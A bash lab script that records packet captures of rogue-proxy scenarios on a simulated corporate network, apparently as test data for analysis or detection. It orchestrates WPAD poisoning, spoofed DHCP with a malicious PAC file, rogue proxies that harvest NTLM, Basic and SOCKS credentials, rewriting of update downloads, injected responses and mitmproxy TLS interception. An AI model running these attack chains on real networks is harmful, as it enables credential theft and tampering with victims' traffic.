#!/usr/bin/env bash
# Records captures/proxies: who is used as a proxy, and what it does. Usage: proxies.sh [SCENE...]; without arguments all scenes.
# Packages: lab.sh's, and dnsmasq-base isc-dhcp-client nginx-light curl squid python3 python3-scapy mitmproxy chromium bind9-dnsutils.
. "$(dirname "$0")/lab.sh"

office() {
  lab_host gw 3c:52:82:11:00:01 10.5.0.1/24
  lab_host proxy 00:11:32:aa:00:08 10.5.0.8/24
  lab_host pc 3c:52:82:11:00:21 10.5.0.21/24
  lab_host lap 3c:52:82:11:00:22 10.5.0.22/24
  lab_host web 00:11:32:aa:00:05 10.5.0.5/24
}
rogue() { lab_host rogue 00:0c:29:6e:00:66 10.5.0.66/24; }
python() { local name=$1 script=$2; shift 2; daemon "$name" /usr/bin/python3 "$make_dir/$script" "$@"; }
windows() { try "$1" curl -s -m 3 -A 'WinHttp-Autoproxy-Service/5.1' -H "Host: $2" "$3"; }
through() { local name=$1; shift; try "$name" curl -s -k -m 4 "$@"; }

# squid HOST [LINE...]: the site's proxy on 3128.
squid_on() {
  local name=$1; shift
  mkdir -p "$lab_tmp/squid"; chmod 777 "$lab_tmp" "$lab_tmp/squid"
  { printf '%s\n' "http_port 3128" "pid_filename $lab_tmp/squid/pid" "cache_log $lab_tmp/squid/log" "access_log none" "cache deny all" "coredump_dir $lab_tmp/squid" \
      "shutdown_lifetime 1 seconds" "visible_hostname proxy.corp.example" "pinger_enable off" "netdb_filename none" "mime_table $lab_tmp/squid/mime"
    printf '%s\n' "$@" "http_access allow all"; } >"$lab_tmp/squid/conf"
  : >"$lab_tmp/squid/mime"
  daemon "$name" squid -N -f "$lab_tmp/squid/conf"
  pause 2
}

# The whole way: poisoned name, PAC, proxy, NTLM demanded and given.
scene_rogue_proxy() {
  office; rogue
  python rogue poisoner.py 10.5.0.66 --only wpad
  python rogue pac_server.py 80 reindented 10.5.0.66:3141
  python rogue rogue_proxy.py 3141 ntlm
  pause 1
  record_start
  try pc python3 "$make_dir/ask.py" llmnr wpad
  windows pc wpad http://10.5.0.66/wpad.dat
  through pc -x http://10.5.0.66:3141 --proxy-ntlm -U 'CORP\alice:correct-horse' http://intranet.corp.example/start
  through pc -x http://10.5.0.66:3141 --proxy-ntlm -U 'CORP\alice:correct-horse' https://mail.corp.example/
}

# A false DHCP answer gives the PAC, the PAC names a SOCKS server on a third host, which asks for a password.
scene_rogue_socks_by_dhcp() {
  lab_host gw 3c:52:82:11:00:01 10.5.0.1/24
  lab_host pc 3c:52:82:11:00:21
  rogue
  lab_host third 00:0c:29:6e:00:77 10.5.0.77/24
  dns_dhcp gw --dhcp-range=10.5.0.100,10.5.0.120,1h --domain=corp.example
  python rogue dhcp_spoofer.py 10.5.0.1 10.5.0.66
  mkdir -p "$lab_tmp/www"; printf 'function FindProxyForURL(url, host) { return "SOCKS 10.5.0.77:1080"; }\n' >"$lab_tmp/www/wpad.dat"
  web rogue "$lab_tmp/www"
  python third rogue_proxy.py 1080 socks
  pause 1
  record_start
  lease pc
  try pc ip addr add 10.5.0.21/24 dev eth0
  windows pc 10.5.0.66 http://10.5.0.66/wpad.dat
  through pc --proxy socks5h://bob:battery-staple@10.5.0.77:1080 http://intranet.corp.example/
  through pc --proxy socks4a://10.5.0.77:1080 http://intranet.corp.example/
}

# The lured client's update requests are redirected to a program, and out of TLS.
scene_proxy_rewrites() {
  office; rogue
  python rogue poisoner.py 10.5.0.66 --only wpad
  python rogue pac_server.py 80 reindented 10.5.0.66:8080
  python rogue rogue_proxy.py 8080 rewrite
  pause 1
  record_start
  try pc python3 "$make_dir/ask.py" nbns WPAD
  windows pc wpad http://10.5.0.66/wpad.dat
  through pc -x http://10.5.0.66:8080 -A 'Windows-Update-Agent' http://download.windowsupdate.com/v9/windowsupdate/selfupdate/wuident.cab
  through pc -x http://10.5.0.66:8080 -A 'Windows-Update-Agent' https://fe2.update.microsoft.com/v6/
}

# Two clients used the proxy before its host was seen to lure a third: they are named too.
scene_lured_later() {
  office; rogue
  python rogue poisoner.py 10.5.0.66 --only wpad
  python rogue pac_server.py 80 reindented 10.5.0.66:3141
  python rogue rogue_proxy.py 3141 http
  pause 1
  record_start
  through pc -x http://10.5.0.66:3141 http://intranet.corp.example/
  through pc -x http://10.5.0.66:3141 --proxy-basic -U 'alice:correct-horse' http://intranet.corp.example/
  pause 1
  try lap python3 "$make_dir/ask.py" llmnr wpad
  windows lap wpad http://10.5.0.66/wpad.dat
}

# A man on the side answers a download first; the true answer follows.
scene_response_injected() {
  lab_hub
  office; rogue
  python web rogue_proxy.py 80 slow
  python rogue injector.py 20
  pause 2
  record_start
  through pc -o /dev/null http://10.5.0.5/setup.exe
  pause 1
}

# The site's squid, which asks for NTLM: several clients, tunnels and plain requests.
scene_corporate_proxy() {
  office
  lab_host tab 3c:52:82:11:00:23 10.5.0.23/24
  mkdir -p "$lab_tmp/www"; echo '<html>intranet</html>' >"$lab_tmp/www/index.html"; web web "$lab_tmp/www"
  squid_on proxy 'auth_param ntlm program /usr/lib/squid/ntlm_fake_auth' 'auth_param ntlm children 2' 'acl known proxy_auth REQUIRED' 'http_access allow known'
  record_start
  for h in pc lap tab pc; do
    through $h -x http://10.5.0.8:3128 --proxy-ntlm -U 'CORP\alice:correct-horse' http://10.5.0.5/
    through $h -p -x http://10.5.0.8:3128 --proxy-ntlm -U 'CORP\alice:correct-horse' http://10.5.0.5/
  done
}

# A portal redirects update requests without being a proxy; a load balancer asks its one server in absolute form; a proxy passes on a vendor's redirect.
scene_portal_and_backend() {
  office
  lab_host portal 3c:52:82:11:00:09 10.5.0.9/24
  mkdir -p "$lab_tmp/www"; echo '<html>app</html>' >"$lab_tmp/www/index.html"; web web "$lab_tmp/www"
  cat >"$lab_tmp/portal.nginx" <<CONF
daemon off; master_process off; pid $lab_tmp/portal.pid; error_log $lab_tmp/portal.error;
events {}
http { access_log off; client_body_temp_path $lab_tmp/po.b; proxy_temp_path $lab_tmp/po.p; fastcgi_temp_path $lab_tmp/po.f; uwsgi_temp_path $lab_tmp/po.u; scgi_temp_path $lab_tmp/po.s;
  server { listen 80; return 302 http://portal.guest.example/login; }
  server { listen 8080; return 302 http://au.download.windowsupdate.com/c/update.cab; } }
CONF
  daemon portal nginx -c "$lab_tmp/portal.nginx"
  pause 1
  record_start
  try pc curl -s -m 3 -H 'Host: download.windowsupdate.com' http://10.5.0.9/v9/wuident.cab
  for _ in 1 2 3; do try gw curl -s -m 3 --request-target http://app.corp.example/ -H 'Host: app.corp.example' http://10.5.0.5/; done
  through lap -x http://10.5.0.9:8080 http://download.windowsupdate.com/c/update.cab
}

# mitmproxy as the lured client's proxy: it shows a certificate of its own for the update host.
scene_mitmproxy() {
  office; rogue
  python rogue poisoner.py 10.5.0.66 --only wpad
  pac "$lab_tmp/www/wpad.dat" 10.5.0.66:8080; web rogue "$lab_tmp/www"
  mkdir -p "$lab_tmp/home"
  daemon rogue env HOME="$lab_tmp/home" mitmdump -q -p 8080 --set confdir="$lab_tmp/home" --set connection_strategy=lazy --set upstream_cert=false
  pause 4
  record_start
  try pc python3 "$make_dir/ask.py" llmnr wpad
  windows pc wpad http://10.5.0.66/wpad.dat
  through pc -x http://10.5.0.66:8080 --tls-max 1.2 -A 'Windows-Update-Agent' https://fe2.update.microsoft.com/v6/
  through pc -x http://10.5.0.66:8080 https://www.bank.example/
}

# browse_by HOST RESOLVER URL: Chromium as Windows users have it, looking for its proxy by itself.
browse_by() {
  printf 'search corp.example\nnameserver %s\noptions timeout:1 attempts:1\n' "$2" >"$lab_tmp/$1.resolv"
  on "$1" timeout -k 2 25 unshare -m sh -c 'mount --bind "$1" /etc/resolv.conf; shift; exec chromium "$@"' sh "$lab_tmp/$1.resolv" --headless --no-sandbox --disable-gpu \
    --no-first-run --disable-background-networking --disable-component-update --disable-sync --user-data-dir="$lab_tmp/$1.chromium" --proxy-auto-detect \
    --timeout=8000 --dump-dom "$3" >"$lab_tmp/$1.page" 2>/dev/null || true
}

# Chromium looks for wpad; the resolver that a false DHCP server gave is the attacker's, as are the PAC and the proxy.
scene_chromium_lured() {
  lab_host gw 3c:52:82:11:00:01 10.5.0.1/24
  lab_host pc 3c:52:82:11:00:21
  lab_host lap 3c:52:82:11:00:22
  rogue
  dns_dhcp gw --dhcp-range=10.5.0.100,10.5.0.120,1h --domain=corp.example
  pac "$lab_tmp/www/wpad.dat" 10.5.0.66:3141; web rogue "$lab_tmp/www"
  python rogue rogue_proxy.py 3141 http
  pause 1
  record_start
  lease lap
  dns_dhcp rogue --dhcp-range=10.5.0.200,10.5.0.210,2m --dhcp-option=3,10.5.0.1 --domain=corp.example --address=/wpad.corp.example/10.5.0.66 --address=/#/192.0.2.80
  pause 1
  lease pc
  try pc ip addr add 10.5.0.21/24 dev eth0
  browse_by pc 10.5.0.66 http://intranet.corp.example/
}

# Chromium finds the company's PAC by the company's resolver, and uses the company's squid.
scene_chromium_office() {
  office
  dns_dhcp gw --address=/wpad.corp.example/10.5.0.8 --address=/intranet.corp.example/10.5.0.5
  pac "$lab_tmp/www/wpad.dat" 10.5.0.8:3128; web proxy "$lab_tmp/www"
  mkdir -p "$lab_tmp/intranet"; echo '<html>intranet</html>' >"$lab_tmp/intranet/index.html"; web web "$lab_tmp/intranet"
  squid_on proxy "dns_nameservers 10.5.0.1"
  record_start
  browse_by pc 10.5.0.1 http://intranet.corp.example/
  browse_by lap 10.5.0.1 http://intranet.corp.example/
}

run_scenes proxies "$@"
